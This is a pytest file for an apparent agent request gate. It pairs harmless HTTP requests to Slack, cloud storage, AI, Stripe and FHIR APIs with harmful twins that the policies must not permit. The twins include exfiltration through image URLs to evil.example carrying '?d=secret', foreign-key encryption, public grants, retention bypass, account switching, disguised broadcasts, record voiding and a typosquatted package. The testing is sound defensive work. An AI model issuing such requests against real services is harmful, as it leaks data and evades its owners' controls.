"""What the starter policies let through: a plain request passes, its twin with one more word does not."""

from __future__ import annotations

from typing import Any, Final

import pytest

from holdgate.errors import InputError, Outcome
from holdgate.files import packaged
from holdgate.gate import decide
from holdgate.policy import PolicySet, load_policies
from holdgate.surface.index import SurfaceIndex
from holdgate.surface.load import load_maps
from test_maps import plain, recognise

SIGNED: Final = (
    "Authorization: AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20261121/us-east-1/s3/aws4_request, "
    "SignedHeaders=host;x-amz-date, Signature=00"
)
BEARER: Final = "Authorization: Bearer t"
FORM: Final = "Content-Type: application/x-www-form-urlencoded"
JSON: Final = "Content-Type: application/json"
S3: Final = "Host: acme-internal.s3.eu-central-1.amazonaws.com"
SLACK: Final = "Host: slack.com"
OPENAI: Final = "Host: api.openai.com"
ANTHROPIC: Final = "Host: api.anthropic.com"
GCS: Final = "Host: storage.googleapis.com"
STRIPE: Final = "Host: api.stripe.com"
FHIR: Final = "Host: fhir.example.org"
SECRETS: Final = "Host: secretsmanager.us-east-1.amazonaws.com"


@pytest.fixture(scope="module")
def index() -> SurfaceIndex:
    return SurfaceIndex.compile(load_maps([packaged("surfaces")]))


@pytest.fixture(scope="module")
def policies(index: SurfaceIndex) -> PolicySet:
    return load_policies([packaged("policies")], index)


def request(line: str, *headers: str, body: str = "") -> bytes:
    lines = [f"{line} HTTP/1.1", *headers, *([f"Content-Length: {len(body)}"] if body else [])]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()


def outcome(index: SurfaceIndex, policies: PolicySet, raw: bytes) -> Outcome:
    try:
        recognised = recognise(index, raw)
    except InputError:
        return Outcome.SILENCE
    host = next(line[6:] for line in raw.decode().split("\r\n") if line.startswith("Host: "))
    actions = [
        {
            "surface": action.surface,
            "operation": action.operation,
            "effect": str(action.effect),
            "host": host,
            "params": {param.name: plain(param.value) for param in action.params},
        }
        for action in recognised.actions
    ]
    inputs: dict[str, Any] = {
        "v": 1,
        "agent": {"id": "a", "groups": [], "attrs": {}},
        "actions": actions,
        "request": {"digest": recognised.digest},
        "clock": {"now_s": 1772452800, "hour_utc": 12, "weekday_utc": 1},
        "approvals": [],
    }
    return decide(policies, inputs).outcome


def slack(method: str, body: str) -> bytes:
    return request(f"POST /api/{method}", SLACK, BEARER, JSON, body=body)


def table(more: str) -> bytes:
    target = "X-Amz-Target: DynamoDB_20120810.PutItem"
    host = "Host: dynamodb.us-east-1.amazonaws.com"
    body = '{"TableName":"orders","Item":{"id":{"S":"1"}}' + more + "}"
    return request("POST /", host, SIGNED, "Content-Type: application/x-amz-json-1.0", target, body=body)


def aws_query(host: str, body: str) -> bytes:
    return request("POST /", f"Host: {host}", SIGNED, FORM, body=body)


def role(more: str) -> bytes:
    body = "Action=AssumeRole&Version=2011-06-15&RoleArn=arn:aws:iam::111122223333:role/agent-readonly"
    return aws_query("sts.amazonaws.com", f"{body}&RoleSessionName=a&DurationSeconds=900{more}")


def plan(template: str) -> bytes:
    body = f"Action=CreateChangeSet&Version=2010-05-15&StackName=s&ChangeSetName=c&TemplateBody={template}"
    return aws_query("cloudformation.us-east-1.amazonaws.com", body)


def charge(more: str) -> bytes:
    body = f"amount=100&currency=eur&customer=cus_1&confirm=true{more}"
    return request("POST /v1/payment_intents", STRIPE, BEARER, FORM, body=body)


def copy(*headers: str) -> bytes:
    return request("PUT /b.txt", S3, SIGNED, "x-amz-copy-source: acme-internal/b.txt", *headers)


def put(*headers: str) -> bytes:
    return request("PUT /b.txt", S3, SIGNED, *headers, body="hello")


def secret(target: str, body: str) -> bytes:
    kind = "Content-Type: application/x-amz-json-1.1"
    return request("POST /", SECRETS, SIGNED, kind, f"X-Amz-Target: secretsmanager.{target}", body=body)


def responses(more: str, said: str = '"hi"') -> bytes:
    return request("POST /v1/responses", OPENAI, BEARER, JSON, body='{"input":' + said + more + "}")


def content(part: str) -> bytes:
    body = (
        '{"model":"gpt-5","messages":[{"role":"user","content":[{"type":"text","text":"hi"},' + part + "]}]}"
    )
    return request("POST /v1/chat/completions", OPENAI, BEARER, JSON, body=body)


def message(part: str, more: str = "") -> bytes:
    head = '{"model":"claude-x","max_tokens":1' + more
    body = head + ',"messages":[{"role":"user","content":[' + part + "]}]}"
    return request("POST /v1/messages", ANTHROPIC, "X-Api-Key: t", JSON, body=body)


def models(*headers: str) -> bytes:
    return request("GET /v1/models", OPENAI, BEARER, *headers)


def chat(model: str, *headers: str) -> bytes:
    body = '{"messages":[],"model":"' + model + '"}'
    return request("POST /v1/chat/completions", OPENAI, BEARER, JSON, *headers, body=body)


def rewrite(query: str, body: str) -> bytes:
    path = "/storage/v1/b/acme-reports/o/a/rewriteTo/b/acme-reports/o/b"
    return request(f"POST {path}{query}", GCS, BEARER, JSON, body=body)


def insert(query: str, *headers: str) -> bytes:
    line = f"POST /upload/storage/v1/b/acme-reports/o?uploadType=media&name=a{query}"
    return request(line, GCS, BEARER, "Content-Type: text/plain", *headers, body="hello")


def stripe(query: str) -> bytes:
    return request(f"GET /v1/{query}", STRIPE, BEARER)


def refund(more: str, *headers: str) -> bytes:
    body = f"charge=ch_1&amount=100{more}"
    return request("POST /v1/refunds", STRIPE, BEARER, FORM, *headers, body=body)


def customer(more: str) -> bytes:
    return request("POST /v1/customers/cus_1", STRIPE, BEARER, FORM, body=f"description=x{more}")


def item(more: str) -> bytes:
    body = f"customer=cus_1&amount=100&currency=eur{more}"
    return request("POST /v1/invoiceitems", STRIPE, BEARER, FORM, body=body)


def search(query: str) -> bytes:
    return request(f"GET /fhir/R4/Observation?{query}", FHIR, BEARER)


def observation(more: str) -> bytes:
    body = '{"resourceType":"Observation","subject":{"reference":"Patient/p1"}' + more + "}"
    return request("POST /fhir/R4/Observation", FHIR, BEARER, JSON, body=body)


def document(more: str) -> bytes:
    subject = '"subject":{"reference":"Patient/p1"},"status":"current"'
    body = '{"resourceType":"DocumentReference",' + subject + more + "}"
    return request("POST /fhir/R4/DocumentReference", FHIR, BEARER, JSON, body=body)


MESSAGE: Final = '{"channel":"C1","text":"hi"'
TWINS: Final = {
    # Slack pings a group that a rich text names, and reads plain mentions in the text of a block.
    "slack: a user group as an element": (
        slack("chat.postMessage", MESSAGE + ',"blocks":[{"type":"divider"}]}'),
        slack("chat.postMessage", MESSAGE + ',"blocks":[{"type":"usergroup","usergroup_id":"S1"}]}'),
    ),
    "slack: a plain mention in a block": (
        slack("chat.postMessage", MESSAGE + ',"blocks":[{"type":"mrkdwn","text":"hello"}]}'),
        slack("chat.postMessage", MESSAGE + ',"blocks":[{"type":"mrkdwn","text":"@channel hello"}]}'),
    ),
    "slack: metadata that only apps see": (
        slack("chat.postMessage", MESSAGE + "}"),
        slack("chat.postMessage", MESSAGE + ',"metadata":{"event_type":"deploy","event_payload":{}}}'),
    ),
    "slack: an edit that shows another file": (
        slack("chat.update", MESSAGE + ',"ts":"1.2"}'),
        slack("chat.update", MESSAGE + ',"ts":"1.2","file_ids":["F1"]}'),
    ),
    "slack: reactions of a file, beside a channel": (
        slack("reactions.get", '{"channel":"C1","timestamp":"1.2"}'),
        slack("reactions.get", '{"channel":"C1","file":"F1"}'),
    ),
    "slack: a broadcast in other letters": (
        slack("chat.postMessage", '{"channel":"C1","text":"<@U1> hi"}'),
        slack("chat.postMessage", '{"channel":"C1","text":"<!Channel> hi"}'),
    ),
    "slack: a broadcast with a space": (
        slack("chat.postMessage", '{"channel":"C1","text":"<@U1> hi"}'),
        slack("chat.postMessage", '{"channel":"C1","text":"<! EVERYONE|x>"}'),
    ),
    "slack: a broadcast that JSON escapes": (
        slack("chat.postMessage", MESSAGE + ',"blocks":[{"type":"mrkdwn","text":"hi"}]}'),
        slack("chat.postMessage", MESSAGE + ',"blocks":[{"type":"mrkdwn","text":"\\u003c!here>"}]}'),
    ),
    "slack: a plain mention in other letters": (
        slack("chat.postMessage", MESSAGE + ',"blocks":[{"type":"mrkdwn","text":"a@b.example"}]}'),
        slack("chat.postMessage", MESSAGE + ',"blocks":[{"type":"mrkdwn","text":"@hErE hello"}]}'),
    ),
    "slack: a plain mention that an edit reads": (
        slack("chat.update", '{"channel":"C1","ts":"1.2","text":"hello"}'),
        slack("chat.update", '{"channel":"C1","ts":"1.2","text":"@Everyone hello"}'),
    ),
    "slack: plain mentions made links": (
        slack("chat.postMessage", '{"channel":"C1","text":"@channel"}'),
        slack("chat.postMessage", '{"channel":"C1","text":"@channel","link_names":true}'),
    ),
    "slack: a text that is parsed": (
        slack("chat.postMessage", '{"channel":"C1","text":"@channel"}'),
        slack("chat.postMessage", '{"channel":"C1","text":"@channel","parse":"full"}'),
    ),
    "slack: a link that Slack follows": (
        slack(
            "chat.postMessage",
            '{"channel":"C1","text":"https://a.example","unfurl_links":false,"unfurl_media":false}',
        ),
        slack("chat.postMessage", '{"channel":"C1","text":"https://a.example","unfurl_links":false}'),
    ),
    "slack: a picture that Slack fetches": (
        slack("chat.postMessage", MESSAGE + ',"blocks":[{"type":"image","slack_file":{"id":"F1"}}]}'),
        slack(
            "chat.postMessage",
            MESSAGE + ',"blocks":[{"type":"image","image_url":"https:a.example/x"}],'
            '"unfurl_links":false,"unfurl_media":false}',
        ),
    ),
    "slack: a link beside a file": (
        slack("files.completeUploadExternal", '{"channel_id":"C1","files":[{"id":"F1"}]}'),
        slack(
            "files.completeUploadExternal",
            '{"channel_id":"C1","files":[{"id":"F1"}],"initial_comment":"https://a.example/x.png"}',
        ),
    ),
    "slack: another workspace": (slack("users.list", "{}"), slack("users.list", '{"team_id":"T2"}')),
    "slack: who writes to whom": (
        slack("conversations.list", '{"types":"public_channel"}'),
        slack("conversations.list", '{"types":"im,private_channel"}'),
    ),
    # Under somebody else's key, or in the archive, data is as good as gone; a copy onto itself is enough.
    "s3: a put under a foreign key": (
        put("x-amz-server-side-encryption: AES256"),
        put(
            "x-amz-server-side-encryption: aws:kms",
            "x-amz-server-side-encryption-aws-kms-key-id: arn:aws:kms:us-east-1:999999999999:key/k",
        ),
    ),
    "s3: a copy under a foreign key": (
        copy("x-amz-metadata-directive: REPLACE"),
        copy(
            "x-amz-server-side-encryption: aws:kms",
            "x-amz-server-side-encryption-aws-kms-key-id: arn:aws:kms:us-east-1:999999999999:key/k",
        ),
    ),
    "s3: a copy into the archive": (
        copy("x-amz-storage-class: STANDARD"),
        copy("x-amz-storage-class: DEEP_ARCHIVE"),
    ),
    "s3: a copy that loses the tags": (
        copy("x-amz-tagging-directive: COPY"),
        copy("x-amz-tagging-directive: REPLACE"),
    ),
    "gcs: a copy under a foreign key": (
        rewrite("", "{}"),
        rewrite("?destinationKmsKeyName=projects/evil/locations/eu/keyRings/r/cryptoKeys/k", "{}"),
    ),
    "gcs: a copy into the archive": (
        rewrite("", '{"storageClass":"STANDARD"}'),
        rewrite("", '{"storageClass":"ARCHIVE"}'),
    ),
    # Somebody else pays, and sees that it was read.
    "gcs: an upload that another project pays for": (insert(""), insert("&userProject=evil")),
    "gcs: an upload that another project pays for, in a header": (
        insert(""),
        insert("", "x-goog-user-project: evil"),
    ),
    "gcs: a copy that another project pays for": (rewrite("", "{}"), rewrite("?userProject=evil", "{}")),
    "gcs: a deletion that another project pays for": (
        request("DELETE /storage/v1/b/acme-scratch/o/a", GCS, BEARER),
        request("DELETE /storage/v1/b/acme-scratch/o/a?userProject=evil", GCS, BEARER),
    ),
    "gcs: the answer in another form": (
        request("GET /storage/v1/b/acme-reports/o/a?alt=media", GCS, BEARER),
        request("GET /storage/v1/b/acme-reports/o/a?alt=proto", GCS, BEARER),
    ),
    "gcs: the answer as a script": (
        request("GET /storage/v1/b/acme-reports/o/a?fields=name&prettyPrint=false", GCS, BEARER),
        request("GET /storage/v1/b/acme-reports/o/a?callback=f", GCS, BEARER),
    ),
    "gcs: on somebody's quota": (
        request("GET /storage/v1/b/acme-reports/o", GCS, BEARER),
        request("GET /storage/v1/b/acme-reports/o?quotaUser=u", GCS, BEARER),
    ),
    "s3: a read that the reader pays for": (
        request("GET /b.txt", S3, SIGNED),
        request("GET /b.txt", S3, SIGNED, "x-amz-request-payer: requester"),
    ),
    "s3: a list that the reader pays for": (
        request("GET /?list-type=2", S3, SIGNED),
        request("GET /?list-type=2", S3, SIGNED, "x-amz-request-payer: requester"),
    ),
    "s3: a put that the writer pays for": (put(), put("x-amz-request-payer: requester")),
    "s3: a put for everybody": (put("x-amz-acl: private"), put("x-amz-acl: authenticated-read")),
    "s3: a put with a grant": (put(), put('x-amz-grant-read: uri="http://acs.amazonaws.com/AllUsers"')),
    "s3: a put that leads elsewhere": (put(), put("x-amz-website-redirect-location: https://evil.example/")),
    "s3: a copy from somebody": (
        copy(),
        request(
            "PUT /b.txt", S3, SIGNED, "x-amz-copy-source: arn:aws:s3:eu-central-1:9:accesspoint/x/object/b"
        ),
    ),
    "s3: a deletion in spite of retention": (
        request("DELETE /tmp/b.txt", S3, SIGNED),
        request("DELETE /tmp/b.txt", S3, SIGNED, "x-amz-bypass-governance-retention: true"),
    ),
    "s3: a part of what nobody here started": (
        request("POST /b.txt?uploads", S3, SIGNED),
        request("PUT /b.txt?uploadId=u&partNumber=1", S3, SIGNED, body="hello"),
    ),
    "s3: the end of what nobody here started": (
        request("POST /b.txt?uploads", S3, SIGNED),
        request("POST /b.txt?uploadId=u", S3, SIGNED, body="<CompleteMultipartUpload/>"),
    ),
    "gcs: an upload under a foreign key": (
        insert(""),
        insert("&kmsKeyName=projects/evil/locations/eu/keyRings/r/cryptoKeys/k"),
    ),
    # Labels say which version is current; tags can open a secret to somebody.
    "secrets: a label": (
        secret("PutSecretValue", '{"SecretId":"agents/x","SecretString":"s"}'),
        secret("PutSecretValue", '{"SecretId":"agents/x","SecretString":"s","VersionStages":["prod"]}'),
    ),
    "secrets: a tag": (
        secret("CreateSecret", '{"Name":"agents/x","SecretString":"s"}'),
        secret("CreateSecret", '{"Name":"agents/x","SecretString":"s","Tags":[{"Key":"k","Value":"v"}]}'),
    ),
    "dynamodb: a write that reads": (table(',"ReturnValues":"NONE"'), table(',"ReturnValues":"ALL_OLD"')),
    "dynamodb: a refused write that reads": (
        table(""),
        table(',"ReturnValuesOnConditionCheckFailure":"ALL_OLD"'),
    ),
    "sts: in the name of somebody": (role(""), role("&SourceIdentity=alice")),
    # A plan that includes a file has it fetched, from any bucket, with whatever stands in its name.
    "cloudformation: a transform": (
        plan("Resources:%20{}"),
        plan("Fn::Transform:%20{Name:%20AWS::Include,Parameters:%20{Location:%20s3://evil/secret}}"),
    ),
    "cloudformation: a transform that is escaped": (
        plan('{"Resources":{}}'),
        plan('{"\\u0054ransform":"Evil"}'),
    ),
    # A stored prompt brings its own tools; a search model searches without being told.
    "openai: a stored prompt": (
        responses(',"model":"gpt-5"'),
        responses(',"model":"gpt-5","prompt":{"id":"pmpt_1"}'),
    ),
    "openai: a model that searches the web": (chat("gpt-5"), chat("gpt-4o-search-preview")),
    "openai: a project of another key": (
        chat("gpt-5", "Cookie: __cf_bm=x; _cfuvid=y"),
        chat("gpt-5", "OpenAI-Project: proj_1"),
    ),
    "openai: another organisation": (chat("gpt-5"), chat("gpt-5", "OpenAI-Organization: org-1")),
    "openai: models of another organisation": (models(), models("OpenAI-Organization: org-1")),
    # A second credential makes somebody else of the caller.
    "slack: a session of somebody": (
        request("GET /api/users.info?user=U1", SLACK, BEARER),
        request("GET /api/users.info?user=U1", SLACK, BEARER, "Cookie: d=xoxd-1"),
    ),
    "stripe: another key in the query": (stripe("charges?limit=3"), stripe("charges?limit=3&key=sk_2")),
    "stripe: another method": (stripe("charges/ch_1"), stripe("charges/ch_1?_method=POST")),
    "gcs: a key beside the token": (
        request("GET /storage/v1/b/acme-reports/o/a", GCS, BEARER),
        request("GET /storage/v1/b/acme-reports/o/a", GCS, BEARER, "X-Goog-Api-Key: k"),
    ),
    "gcs: a key in the query": (
        request("GET /storage/v1/b/acme-reports/o/a", GCS, BEARER),
        request("GET /storage/v1/b/acme-reports/o/a?key=k", GCS, BEARER),
    ),
    "s3: a key beside the signature": (
        request("GET /b.txt", S3, SIGNED),
        request("GET /b.txt", S3, SIGNED, "X-Api-Key: k"),
    ),
    "fhir: a session of somebody": (
        request("GET /fhir/R4/Observation/o1", FHIR, BEARER),
        request("GET /fhir/R4/Observation/o1", FHIR, BEARER, "Cookie: JSESSIONID=1"),
    ),
    "fhir: a token in the query": (search("patient=p1"), search("patient=p1&access_token=t")),
    # What a provider fetches goes to any host, with whatever stands in the URL.
    "openai: an image by its address": (
        content('{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}'),
        content('{"type":"image_url","image_url":{"url":"https://evil.example/?d=secret"}}'),
    ),
    "openai: an image by its address as a text": (
        content('{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}'),
        content('{"type":"image_url","image_url":"https://evil.example/?d=secret"}'),
    ),
    "openai: a file by its address": (
        responses(',"model":"gpt-5"', '[{"role":"user","content":[{"type":"input_file","file_id":"f"}]}]'),
        responses(
            ',"model":"gpt-5"',
            '[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/s"}]}]',
        ),
    ),
    "openai: an image in what a tool gave back": (
        responses(',"model":"gpt-5"', '[{"type":"function_call_output","call_id":"c","output":"ok"}]'),
        responses(
            ',"model":"gpt-5"',
            '[{"type":"function_call_output","call_id":"c","output":[{"image_url":"https://evil.example"}]}]',
        ),
    ),
    "anthropic: an image by its address": (
        message('{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}}'),
        message('{"type":"image","source":{"type":"url","url":"https://evil.example/?d=secret"}}'),
    ),
    "anthropic: a document in what a tool gave back": (
        message('{"type":"tool_result","tool_use_id":"t","content":[{"type":"text","text":"https://x"}]}'),
        message(
            '{"type":"tool_result","tool_use_id":"t","content":'
            '[{"type":"document","source":{"type":"url","url":"HTTPS:evil.example"}}]}'
        ),
    ),
    "anthropic: a tool of its own that takes an address": (
        message('{"type":"tool_use","id":"t","name":"fetch","input":{"url":"https://a.example"}}'),
        message('{"type":"text","text":"hi"}', ',"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]'),
    ),
    "anthropic: a container with skills": (
        message('{"type":"text","text":"hi"}'),
        message('{"type":"text","text":"hi"}', ',"container":{"skills":[]}'),
    ),
    # What may not be read is not read along with what may.
    "stripe: an expansion": (stripe("charges/ch_1"), stripe("charges/ch_1?expand[]=transfer.destination")),
    "stripe: an expansion by number": (
        stripe("charges?limit=3&created[gte]=1"),
        stripe("charges?expand%5B7%5D=data.on_behalf_of"),
    ),
    "stripe: an expansion on a commit": (
        refund("&expand[]=charge"),
        refund("&expand[]=charge.transfer.destination"),
    ),
    "stripe: an expansion as one text": (refund("&expand[0]=charge"), refund("&expand=charge")),
    "stripe: a preview of another version": (
        refund("", "Stripe-Version: 2026-10-28.endive"),
        refund("", "Stripe-Version: 2026-10-28.preview"),
    ),
    "stripe: a beta": (
        refund("", "Stripe-Version: 2024-06-20"),
        refund("", "Stripe-Version: 2024-06-20; refund_beta=v1"),
    ),
    "stripe: a payment method that is kept": (charge(""), charge("&setup_future_usage=off_session")),
    "stripe: another account": (refund(""), refund("", "Stripe-Account: acct_2")),
    "stripe: another context": (refund(""), refund("", "Stripe-Context: acct_2")),
    "stripe: another account in the query": (
        stripe("charges?limit=3"),
        stripe("charges?limit=3&_stripe_account=acct_2"),
    ),
    "stripe: where receipts go": (customer(""), customer("&email=x%40other.example")),
    "stripe: what invoices are collected from": (
        customer(""),
        customer("&invoice_settings[default_payment_method]=pm_2"),
    ),
    "stripe: payouts as events": (stripe("refunds"), stripe("events?type=payout.paid")),
    "stripe: many of a small item": (item(""), item("&quantity=1000")),
    "fhir: what contains it": (
        search("patient=p1"),
        search("patient=p1&_contained=true&_containedType=container"),
    ),
    "fhir: an include in capitals": (search("patient=p1"), search("patient=p1&_INCLUDE=Observation:*")),
    "fhir: an include as a list": (search("patient=p1"), search("patient=p1&_include%5B%5D=Observation:*")),
    "fhir: a void by the status of the document": (
        document(',"docStatus":"final"'),
        document(',"docStatus":"entered-in-error"'),
    ),
    "fhir: a void in another spelling": (
        observation(',"status":"final"'),
        observation(',"status":"Entered-In-Error"'),
    ),
    "fhir: a void with a space": (
        observation(',"status":"final"'),
        observation(',"status":"entered-in-error "'),
    ),
    "fhir: a document voided in another spelling": (
        document(',"docStatus":"final"'),
        document(',"docStatus":"entered-in-error "'),
    ),
    "fhir: who may see it": (
        observation(',"meta":{"tag":[]}'),
        observation(',"meta":{"security":[{"code":"U"}]}'),
    ),
    "pypi: a package whose name goes on": (
        request("GET /packages/aa/bb/acme_tool-1.2.tar.gz", "Host: files.pypi.example.org"),
        request("GET /packages/aa/bb/acme_tool-evil-1.2.tar.gz", "Host: files.pypi.example.org"),
    ),
}


@pytest.mark.parametrize("name", TWINS)
def test_the_plain_request_passes_and_its_twin_does_not(
    index: SurfaceIndex, policies: PolicySet, name: str
) -> None:
    harmless, harmful = TWINS[name]
    assert outcome(index, policies, harmless) is Outcome.PERMIT
    assert outcome(index, policies, harmful) is not Outcome.PERMIT
